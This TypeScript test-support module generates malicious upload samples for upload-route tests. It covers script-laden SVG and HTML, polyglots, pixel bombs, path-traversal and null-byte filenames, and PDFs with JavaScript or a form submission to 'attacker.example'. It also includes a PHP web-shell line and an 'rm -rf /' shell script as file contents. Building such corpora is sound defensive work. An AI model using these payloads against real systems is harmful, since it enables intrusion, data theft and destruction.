// The bad-file corpus every upload route is tested with: files that are no picture or document
// whatever their name and declared type say (wrong magic, truncated, SVG and HTML, polyglots,
// pixel bombs, programs and archives), real pictures with something hidden in them or a hostile
// name (re-encoded clean), PDFs that are broken or can act, and oversized files. Generated here,
// so the tests share one list and no fixture file sits in the repository.
import assert from 'node:assert/strict';
import { PDFDocument, PDFHexString, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { cleanPdf, embeddedFilePdf, escapedJavaScriptPdf, launchActionPdf, openActionJavaScriptPdf } from '../files/pdf-test-support.ts';
import { compoundFile, DOC, gif, jpegWithExif, PDF, png, pngBomb, pngChunk, webp } from './files.ts';

export const MB = 1024 * 1024;

export interface UploadSample {
  /** The name the client sends; some are hostile on purpose. */
  filename: string;
  /** The declared type, often a lie. */
  contentType: string;
  data: Buffer;
}

const sample = (filename: string, data: Buffer, contentType = 'image/jpeg'): UploadSample => ({ filename, data, contentType });

/** What a phone sends: a JPEG with EXIF (camera, orientation) and a GPS position. */
export const GPS_MARKERS = [Buffer.from('TestPhone'), Buffer.from('Secret Model')];

/** Bytes that must never survive into a stored picture. */
export const HIDDEN_MARKERS = [Buffer.from('<script'), Buffer.from('PK\x03\x04'), Buffer.from('alert('), ...GPS_MARKERS];

/** A stored picture is a fresh encoding: jpeg or webp with no EXIF (so no GPS), XMP, comments or orientation, and nothing hidden. */
export async function assertCleanPicture(bytes: Buffer, label: string): Promise<void> {
  const metadata = await sharp(bytes).metadata();
  assert.ok(metadata.format === 'jpeg' || metadata.format === 'webp', `${label}: ${metadata.format}`);
  assert.equal(metadata.exif, undefined, `${label} has no EXIF (no GPS)`);
  assert.equal(metadata.xmp, undefined, `${label} has no XMP`);
  assert.equal(metadata.comments, undefined, `${label} has no comments`);
  assert.equal(metadata.orientation, undefined, label);
  for (const marker of HIDDEN_MARKERS) assert.ok(!bytes.includes(marker), `${label} does not carry ${JSON.stringify(marker.toString('latin1'))}`);
}

const SCRIPT = '<script>alert(document.cookie)</script>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>';
const HTML = `<!doctype html><html><body><img src=x onerror=alert(1)>${SCRIPT}</body></html>`;

const jpeg = (width = 64, height = 48) =>
  sharp({ create: { width, height, channels: 3, background: '#d35400' } })
    .composite([{ input: { create: { width: Math.ceil(width / 3), height, channels: 3, background: '#f1c40f' } }, left: 0, top: 0 }])
    .jpeg()
    .toBuffer();

/** A PNG carrying a text chunk before IEND (where a polyglot hides its script). */
async function pngWithText(text: string): Promise<Buffer> {
  const image = await png(64, 64);
  const iend = image.length - 12;
  return Buffer.concat([image.subarray(0, iend), pngChunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1')), image.subarray(iend)]);
}

/** A JPEG with a comment segment right after SOI. */
async function jpegWithComment(text: string): Promise<Buffer> {
  const image = await jpeg();
  const payload = Buffer.from(text, 'latin1');
  const header = Buffer.from([0xff, 0xfe, 0, 0]);
  header.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([image.subarray(0, 2), header, payload, image.subarray(2)]);
}

/** A JPEG whose APP1 segment holds an XMP packet with a script and a position. */
async function jpegWithXmp(): Promise<Buffer> {
  const image = await jpeg();
  const payload = Buffer.concat([
    Buffer.from('http://ns.adobe.com/xap/1.0/\0'),
    Buffer.from(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>57,9N</exif:GPSLatitude>${SCRIPT}</x:xmpmeta>`),
  ]);
  const header = Buffer.from([0xff, 0xe1, 0, 0]);
  header.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([image.subarray(0, 2), header, payload, image.subarray(2)]);
}

/** A JPEG declaring 65 000 × 65 000 pixels in its frame header (SOF0) over an 8 × 8 body. */
async function jpegBomb(): Promise<Buffer> {
  const image = Buffer.from(
    await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
      .jpeg()
      .toBuffer(),
  );
  const sof = image.indexOf(Buffer.from([0xff, 0xc0]));
  image.writeUInt16BE(65_000, sof + 5);
  image.writeUInt16BE(65_000, sof + 7);
  return image;
}

/** A WEBP (lossless, VP8L) declaring 16 384 × 16 384 pixels over a tiny body. */
async function webpBomb(): Promise<Buffer> {
  const image = Buffer.from(
    await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
      .webp({ lossless: true })
      .toBuffer(),
  );
  const vp8l = image.indexOf(Buffer.from('VP8L'));
  // After the chunk size and the 0x2f signature: 14 bits width - 1, 14 bits height - 1, alpha, version.
  const bits = (16_383 | (16_383 << 14)) >>> 0;
  image.writeUInt32LE(bits, vp8l + 9);
  return image;
}

/**
 * Files that are neither an accepted picture (PNG, JPG, WEBP that decodes within the pixel
 * limit) nor a document (PDF, DOC): every upload route refuses each of them, whatever the name.
 */
export async function neitherPictureNorDocument(): Promise<UploadSample[]> {
  const jpegImage = await jpeg(200, 150);
  const pngImage = await png(64, 48);
  const webpImage = await webp(64, 64);
  const tiff = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
    .tiff()
    .toBuffer();
  const avif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
    .avif()
    .toBuffer()
    .catch(() => Buffer.concat([Buffer.from([0, 0, 0, 0x1c]), Buffer.from('ftypavif'), Buffer.alloc(100)]));
  return [
    // SVG and HTML under picture names and types.
    sample('vector.png', Buffer.from(SVG), 'image/png'),
    sample('vector.svg', Buffer.from(SVG), 'image/svg+xml'),
    sample('xml.jpg', Buffer.from(`<?xml version="1.0"?>${SVG}`)),
    sample('svg-bom.webp', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(SVG)]), 'image/webp'),
    sample('svgz.png', Buffer.from('<svg onload=alert(1)>'), 'image/svg+xml'),
    sample('page.jpg', Buffer.from(HTML), 'text/html'),
    sample('page.png', Buffer.from('<html><body><script>alert(1)</script></body></html>'), 'image/png'),
    sample('page.html', Buffer.from(HTML), 'image/jpeg'),
    sample('xhtml.webp', Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`), 'application/xhtml+xml'),
    // Polyglots whose picture is not at the start: the bytes start as something else.
    sample('html-then-png.png', Buffer.concat([Buffer.from(`<html>${SCRIPT}</html>`), pngImage])),
    sample('js-then-jpeg.jpg', Buffer.concat([Buffer.from('alert(1);/*'), jpegImage, Buffer.from('*/')]), 'application/javascript'),
    sample('zip-then-jpeg.jpg', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(26), jpegImage])),
    sample('gifar.jpg', Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(8), Buffer.from('*/=alert(1)//')])),
    // Wrong magic: a picture format uploads do not take, or a format's magic with nothing behind it.
    sample('anim.gif', await gif(), 'image/gif'),
    sample('anim.jpg', await gif()),
    sample('bitmap.jpg', tiff),
    sample('photo.tiff', tiff, 'image/tiff'),
    sample('photo.avif', avif, 'image/avif'),
    sample('bmp.jpg', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)])),
    sample('icon.png', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0, 16, 16]), Buffer.alloc(100)]), 'image/x-icon'),
    sample('heic.jpg', Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic'), Buffer.alloc(100)]), 'image/heic'),
    sample('layers.png', Buffer.concat([Buffer.from('8BPS'), Buffer.alloc(100)])),
    sample('magic-only.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(2000, 0x41)])),
    sample('magic-only.png', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(2000, 0x42)]), 'image/png'),
    sample('riff.webp', Buffer.concat([Buffer.from('RIFF'), Buffer.from([0xff, 0, 0, 0]), Buffer.from('WEBPVP8 '), Buffer.alloc(500, 7)]), 'image/webp'),
    // Truncated pictures.
    sample('cut.jpg', jpegImage.subarray(0, 120)),
    sample('cut-half.jpg', jpegImage.subarray(0, Math.floor(jpegImage.length / 2))),
    sample('cut.png', pngImage.subarray(0, Math.floor(pngImage.length / 2)), 'image/png'),
    sample('cut.webp', webpImage.subarray(0, 40), 'image/webp'),
    // Pixel bombs: the header promises more pixels than any photo, the body is tiny.
    sample('bomb.png', pngBomb(), 'image/png'),
    sample('bomb-100mp.png', pngBomb(10_000, 10_000), 'image/png'),
    sample('bomb-wide.png', pngBomb(200_000, 400), 'image/png'),
    sample('bomb.jpg', await jpegBomb()),
    sample('bomb.webp', await webpBomb(), 'image/webp'),
    // Programs, archives, office files that are not Word 97, media, text.
    sample('sheet.png', compoundFile('Workbook')),
    sample('slides.jpg', compoundFile('PowerPoint Document')),
    sample('archive.jpg', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(300)]), 'application/zip'),
    sample('program.jpg', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300)]), 'application/x-msdownload'),
    sample('linux.png', Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(300)])),
    sample('packed.jpg', Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), Buffer.alloc(100)])),
    sample('seven.jpg', Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), Buffer.alloc(100)])),
    sample('rar.png', Buffer.concat([Buffer.from('Rar!\x1a\x07\x00'), Buffer.alloc(100)])),
    sample('music.jpg', Buffer.concat([Buffer.from('ID3'), Buffer.alloc(100)]), 'audio/mpeg'),
    sample('video.jpg', Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypisom'), Buffer.alloc(100)]), 'video/mp4'),
    sample('rtf.jpg', Buffer.from('{\\rtf1\\ansi {\\object\\objemb} }'), 'application/rtf'),
    sample('notes.jpg', Buffer.from('просто текст, не картинка'), 'text/plain'),
    sample('noise.jpg', Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7919 + 13) % 256))),
    sample('data.jpg', Buffer.from('{"image": "data:image/png;base64,AAAA"}'), 'application/json'),
    sample('script.jpg', Buffer.from('<?php system($_GET["c"]); ?>')),
    sample('shell.png', Buffer.from('#!/bin/sh\nrm -rf /\n')),
    sample('code.webp', Buffer.from('alert(1)//')),
    sample('table.jpg', Buffer.from('name;price\nborscht;350\n'), 'text/csv'),
    // Hostile names on bad bytes: still only bad bytes.
    sample('../../../etc/passwd.jpg', Buffer.from(HTML)),
    sample('..\\..\\Windows\\win.ini.png', Buffer.from(SVG)),
    sample('C:\\Users\\Public\\evil.jpg', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(64)])),
    sample('photo.jpg\u0000.html', Buffer.from(HTML)),
    sample('\u202Egpj.lmth', Buffer.from(HTML)),
    sample(`${'a'.repeat(300)}.jpg`, Buffer.from(SVG)),
    sample('%2e%2e%2f%2e%2e%2fpasswd.png', Buffer.from(SCRIPT)),
  ];
}

/**
 * Real pictures with something hidden beside the pixels (a script in a chunk or a comment, an
 * archive or page after the end, EXIF with GPS) or with a hostile name: the picture routes take
 * them, and what they store is a new picture with none of it (check with HIDDEN_MARKERS and
 * sharp's metadata), under a name of the server's own.
 */
export async function picturesToReencode(): Promise<UploadSample[]> {
  return [
    sample('gps.jpg', await jpegWithExif(400, 300)),
    sample('png-then-html.png', Buffer.concat([await png(64, 64), Buffer.from(`<html>${SCRIPT}</html>`)]), 'image/png'),
    sample('png-text-chunk.png', await pngWithText(SCRIPT), 'image/png'),
    sample('jpeg-comment.jpg', await jpegWithComment(SCRIPT)),
    sample('jpeg-xmp.jpg', await jpegWithXmp()),
    sample('jpeg-then-zip.jpg', Buffer.concat([await jpeg(), Buffer.from('PK\x03\x04'), Buffer.from(SCRIPT), Buffer.alloc(64)])),
    sample('jpeg-then-js.jpg', Buffer.concat([await jpeg(), Buffer.from('\n;alert(document.domain)//')]), 'text/javascript'),
    sample('webp-then-html.webp', Buffer.concat([await webp(), Buffer.from(`<html>${SCRIPT}</html>`)]), 'image/webp'),
    sample('../../../etc/passwd.jpg', await jpeg()),
    sample('..\\..\\Windows\\system32\\evil.jpg', await jpeg()),
    sample('/absolute/path/dish.jpg', await jpeg()),
    sample('%2e%2e%2fshadow.jpg', await jpeg()),
    sample('\u202Egpj.exe', await jpeg()),
    sample('photo\u0000.php.jpg', await jpeg()),
    sample(`${'я'.repeat(400)}.jpg`, await jpeg()),
    sample('vector.svg', await png(), 'image/svg+xml'),
  ];
}

/** Word 97 and PDF bytes under picture names: not pictures (the document routes take them as documents). */
export const documentsNamedAsPictures = async (): Promise<UploadSample[]> => [
  sample('document.jpg', PDF),
  sample('certificate.png', await cleanPdf(), 'image/png'),
  sample('word.jpg', DOC),
];

/** PDF bytes the document routes refuse as not a readable PDF: broken, no page, encrypted. */
export async function unreadablePdfs(): Promise<UploadSample[]> {
  const clean = await cleanPdf();
  const pdf = (filename: string, text: string) => sample(filename, Buffer.from(text, 'latin1'), 'application/pdf');
  return [
    pdf('magic-only.pdf', '%PDF-1.7\n'),
    sample('magic-garbage.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(2000, 0x41)]), 'application/pdf'),
    pdf('pdf-html.pdf', `%PDF-1.4\n<html><body>${SCRIPT}</body></html>\n%%EOF\n`),
    pdf('no-catalog.pdf', '%PDF-1.4\n1 0 obj\n<< /Foo /Bar >>\nendobj\ntrailer\n<< >>\n%%EOF\n'),
    pdf('no-pages.pdf', '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
    sample('truncated.pdf', clean.subarray(0, Math.floor(clean.length / 2)), 'application/pdf'),
    pdf(
      'encrypted.pdf',
      '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
        '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n4 0 obj\n<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>\nendobj\n' +
        'trailer\n<< /Root 1 0 R /Encrypt 4 0 R >>\n%%EOF\n',
    ),
  ];
}

/** A clean PDF with one thing added to its catalog or first page. */
async function pdfWith(change: (document: PDFDocument) => void): Promise<Buffer> {
  const document = await PDFDocument.load(await cleanPdf());
  change(document);
  return Buffer.from(await document.save());
}

const action = (document: PDFDocument, entries: Record<string, unknown>) => document.context.obj(entries as never);

/** PDFs that can act: scripts, launch, form submission, embedded files, rich media, XML forms (activeWordDocuments: the DOC kind). */
export async function activePdfs(): Promise<UploadSample[]> {
  const pdf = (filename: string, data: Buffer) => sample(filename, data, 'application/pdf');
  const onCatalog = (key: string, entries: Record<string, unknown>) => pdfWith((document) => document.catalog.set(PDFName.of(key), action(document, entries)));
  const onPage = (key: string, entries: Record<string, unknown>) =>
    pdfWith((document) => document.getPages()[0]!.node.set(PDFName.of(key), action(document, entries)));
  return [
    pdf('open-action-js.pdf', await openActionJavaScriptPdf()),
    pdf('embedded-file.pdf', await embeddedFilePdf()),
    pdf('launch.pdf', await launchActionPdf()),
    pdf('escaped-js.pdf', await escapedJavaScriptPdf()),
    pdf(
      'names-js.pdf',
      await onCatalog('Names', { JavaScript: { Names: [PDFString.of('x'), { S: 'JavaScript', JS: PDFHexString.fromText('app.alert(1)') }] } }),
    ),
    pdf('catalog-aa.pdf', await onCatalog('AA', { WC: { S: 'JavaScript', JS: PDFHexString.fromText('1') } })),
    pdf('page-aa.pdf', await onPage('AA', { O: { S: 'JavaScript', JS: PDFHexString.fromText('1') } })),
    pdf('submit-form.pdf', await onCatalog('OpenAction', { S: 'SubmitForm', F: PDFString.of('http://attacker.example/') })),
    pdf('import-data.pdf', await onCatalog('OpenAction', { S: 'ImportData', F: PDFString.of('data.fdf') })),
    pdf('goto-embedded.pdf', await onCatalog('OpenAction', { S: 'GoToE', T: { R: 'C', N: PDFString.of('inner.pdf') } })),
    pdf('rich-media.pdf', await onPage('Annots', { Subtype: 'RichMedia', RichMediaContent: {} })),
    pdf('xfa.pdf', await onCatalog('AcroForm', { Fields: [], XFA: PDFString.of('<xdp:xdp/>') })),
  ];
}

/** Word 97 files that can run or carry something: macros, a VBA project, an embedded object. */
export const activeWordDocuments = (): UploadSample[] => [
  sample('macros.doc', compoundFile('WordDocument', 'Macros', 'VBA', '_VBA_PROJECT'), 'application/msword'),
  sample('vba-only.doc', compoundFile('WordDocument', '_VBA_PROJECT'), 'application/msword'),
  sample('package.doc', compoundFile('WordDocument', 'ObjectPool'), 'application/msword'),
];

/** The route's limit plus one byte, starting with a real file of the kind so only the size is wrong. */
export const oversize = (head: Buffer, limitMegabytes: number): Buffer => Buffer.concat([head, Buffer.alloc(limitMegabytes * MB - head.length + 1)]);
